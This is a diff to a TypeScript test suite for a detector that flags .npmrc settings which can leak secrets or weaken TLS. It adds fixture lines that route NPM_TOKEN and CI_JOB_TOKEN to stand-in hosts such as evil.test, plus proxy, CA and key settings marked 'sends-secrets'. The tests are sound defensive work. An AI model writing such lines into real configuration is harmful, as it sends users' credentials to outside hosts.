@@ -44,10 +44,6 @@ describe('an .npmrc', () => {
   const table: readonly (readonly [line: string, effect: string | undefined])[] = [
     ['registry=https://example.com/', undefined],
     ['//example.com/:_authToken=abc', undefined],
-    ['//example.com/:_authToken=${NPM_TOKEN}', undefined],
-    ['//example.com/:_password=${CI_JOB_TOKEN}', undefined],
-    ['//example.com/:_authToken=${GITHUB_TOKEN}', undefined],
-    ['//example.com/:_authToken=${NPM_TOKEN-none}', undefined],
     ['//example.com/:_authToken=${AWS_SECRET_ACCESS_KEY}', 'sends-secrets'],
     ['registry=https://example.com/${HOME}/', 'sends-secrets'],
     ['${HOME}=1', 'sends-secrets'],
@@ -59,6 +55,16 @@ describe('an .npmrc', () => {
     ['${NPM_X}//example.com/:_authToken=abc', 'sends-secrets'],
     ['proxy=http://example.com', 'sends-secrets'],
     ['proxy=false', undefined],
+    ['noproxy=example.com', 'sends-secrets'],
+    ['noproxy[]=example.com', 'sends-secrets'],
+    ['no-proxy=example.com', 'sends-secrets'],
+    ['noproxy=', undefined],
+    ['local-address=192.0.2.2', 'sends-secrets'],
+    ['ca=x', 'sends-secrets'],
+    ['cafile=/x', 'sends-secrets'],
+    ['cert=x', 'sends-secrets'],
+    ['key=x', 'sends-secrets'],
+    ['//example.com/:certfile=/x', 'sends-secrets'],
     ['strict-ssl=true', undefined],
     ['strict-ssl=0', 'sends-secrets'],
     ['ca[]=x', 'sends-secrets'],
@@ -71,6 +77,36 @@ describe('an .npmrc', () => {
       assert.deepEqual(
         riskySettings(parseNpmrc(line)).map((risky) => risky.effect),
         effect === undefined ? [] : [effect],
+      );
+    });
+  }
+
+  const sent: readonly (readonly [text: string, sends: readonly string[]])[] = [
+    ['//example.com/:_authToken=${NPM_TOKEN}', ['NPM_TOKEN example.com']],
+    ['//Example.com:4873/npm/:_password=${CI_JOB_TOKEN}', ['CI_JOB_TOKEN example.com:4873']],
+    ['//example.com/:_authToken=${NPM_TOKEN-none}', ['NPM_TOKEN example.com']],
+    ['//evil.test/:_authToken=https://registry.npmjs.org/${NPM_TOKEN}', ['NPM_TOKEN evil.test']],
+    ['registry=https://example.com/${NPM_TOKEN}/', ['NPM_TOKEN example.com']],
+    ['registry=https://${NPM_TOKEN}.evil.test/', ['NPM_TOKEN ${npm_token}.evil.test']],
+    ['registry=https://${NPM_TOKEN}@evil.test/', ['NPM_TOKEN evil.test']],
+    ['registry=https://${NPM_HOST:-evil.test}/${NPM_TOKEN}', ['NPM_HOST', 'NPM_TOKEN']],
+    [
+      'registry=https://a.test/\n@s:registry=https://b.test\n_authToken=${NPM_TOKEN}',
+      ['NPM_TOKEN a.test', 'NPM_TOKEN b.test'],
+    ],
+    ['_authToken=${NPM_TOKEN}', ['NPM_TOKEN registry.npmjs.org']],
+    // Where it goes is in the user's own hands.
+    ['registry=${NPM_REGISTRY}', []],
+    ['registry=https://${NPM_HOST}/${NPM_TOKEN}', []],
+    ['//${NPM_HOST}:4873/:_authToken=${NPM_TOKEN}', []],
+  ];
+  for (const [text, expected] of sent) {
+    it(`sends ${expected.join(' and ') || 'nothing'} by ${JSON.stringify(text)}`, () => {
+      const found = riskySettings(parseNpmrc(text)).flatMap(({ sends = [] }) => sends);
+      const said = found.map(({ variable, host }) => `${variable} ${host}`);
+      assert.deepEqual(
+        said.map((each, at) => (expected[at]?.includes(' ') === false ? each.split(' ')[0] : each)),
+        expected,
       );
     });
   }
